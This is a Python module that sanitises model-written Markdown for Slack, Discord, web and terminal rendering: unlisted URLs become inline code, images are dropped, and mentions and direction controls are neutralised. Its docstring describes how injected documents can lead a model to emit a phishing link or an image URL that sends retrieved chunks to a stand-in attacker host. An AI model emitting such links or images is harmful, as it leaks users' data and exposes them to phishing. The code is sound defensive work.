"""Model text is untrusted: it is made safe once, in the core, before any renderer sees it.

A document can ask the model to write what a renderer would turn into an action: a masked link to a phishing page
(`[Reset your SSO](https://evil.example)` becomes a Slack `<url|label>` link), an image that the web UI loads
without a click and whose URL carries other chunks out (`![](https://attacker/?d=…)`), or a mention that pings a
whole channel (`@here`, `<!channel>`, `<@U123>`, `<@&role>`). So, for every surface (Slack, Discord, web, terminal):

- a link stays a link only when it points at a retrieved source's own URL (its permalink or fetched page);
  any other URL — in a Markdown link, a Slack `<url|label>`, an autolink or bare — is shown as inline code, which
  no renderer makes clickable or previews;
- images are never shown: their alt text stands in;
- mentions are broken with a zero-width space (`@​here`, `<​@U123>`), so no platform parses them.

Code blocks keep their text (URLs in code are not clickable anywhere); mentions are broken there too.

Labels taken from documents — file names, headings, locations, the names in ingest reports and listings — are not
Markdown at all: `inert` makes them one plain line that no renderer turns into a link or a mention, and shows
Unicode direction controls as `[U+202E]` instead of letting them reorder what follows (`invoice‮txt.exe.md` would
read "invoicedm.exe.txt"). Each renderer then escapes its own markup (Slack `&<>` in verbatim text, Discord's
Markdown characters, the web UI's Markdown).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection

ZWSP = "\u200b"
CODE = re.compile(r"(```.*?```|`[^`\n]*`)", re.S)
IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
LINK = re.compile(r"\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
ANGLE_LINK = re.compile(r"<((?:https?|mailto|ftp)[^>|\s]*)(?:\|([^>]*))?>", re.I)  # <url> and Slack's <url|label>
BARE_URL = re.compile(r"(?<![\w`])((?:https?|ftp)://[^\s<>`]+|www\.[^\s<>`]+)", re.I)
BROADCAST = re.compile(r"@(here|channel|everyone|all)\b", re.I)
PLATFORM_MENTION = re.compile(r"<(?=[@!#])")  # <@U1>, <@!1>, <@&role>, <!channel>, <!subteam^S1>, <#C1>
PLACEHOLDER = "\x00{}\x00"
DIRECTION_CONTROLS = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
CONTROL_CHARACTERS = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+")
LINK_START = re.compile(r"(?i)\b(https?|ftp|www)(?=:|\.)")  # what Discord, GFM and Slack turn into links


def neutralize_mentions(text: str) -> str:
    """Break every mention syntax of Slack and Discord, so that the text pings no one wherever it is shown."""
    return PLATFORM_MENTION.sub("<" + ZWSP, BROADCAST.sub("@" + ZWSP + r"\1", text))


def inert(text: str) -> str:
    """A label from a document (file name, heading, location) as one plain line: direction controls shown as
    `[U+202E]`, line breaks and other control characters as spaces, link starts broken by a zero-width space
    (`https​://`, `www​.`), mentions broken."""
    return inert_text(" ".join(CONTROL_CHARACTERS.sub(" ", text).split()))


def inert_text(text: str) -> str:
    """Text that may quote document names (an error naming a file): as `inert`, but its lines kept."""
    text = DIRECTION_CONTROLS.sub(lambda m: f"[U+{ord(m.group()):04X}]", text)
    return neutralize_mentions(LINK_START.sub(lambda m: m.group(1) + ZWSP, text))


def _as_code(url: str) -> str:
    return f"`{url.replace('`', '')}`"


def bare(url: str, allowed: set[str], keep: Callable[[str], str]) -> str:
    """A bare URL: clickable only when allowed; sentence punctuation after it stays outside."""
    trail = re.search(r"[.,;:!?)\]'\"]+$", url)
    url, tail = (url[:trail.start()], trail.group()) if trail else (url, "")
    return keep(url if url in allowed else _as_code(url)) + tail


def safe_markdown(text: str, allowed_links: Collection[str] = ()) -> str:
    """`text` (Markdown written by a model) with only `allowed_links` left clickable, no images, no mentions."""
    allowed = {link for link in allowed_links if link}
    kept: list[str] = []

    def keep(piece: str) -> str:
        kept.append(piece)
        return PLACEHOLDER.format(len(kept) - 1)

    def image(match: re.Match[str]) -> str:
        alt = match.group(1).strip()
        return f"(image: {alt})" if alt else "(image)"

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if url in allowed:
            return keep(f"[{label}]({url})")
        return f"{label} ({keep(_as_code(url))})"

    def angle(match: re.Match[str]) -> str:
        url, label = match.group(1), match.group(2)
        if url in allowed:
            return keep(f"[{label or url}]({url})")
        return (f"{label} " if label else "") + f"({keep(_as_code(url))})"

    parts = CODE.split(text)
    for i in range(0, len(parts), 2):  # outside code only
        piece = IMAGE.sub(image, parts[i])
        piece = LINK.sub(link, piece)
        piece = ANGLE_LINK.sub(angle, piece)
        piece = BARE_URL.sub(lambda m: bare(m.group(1), allowed, keep), piece)
        parts[i] = piece
    out = neutralize_mentions("".join(parts))
    return re.sub("\x00(\\d+)\x00", lambda m: neutralize_mentions(kept[int(m.group(1))]), out)
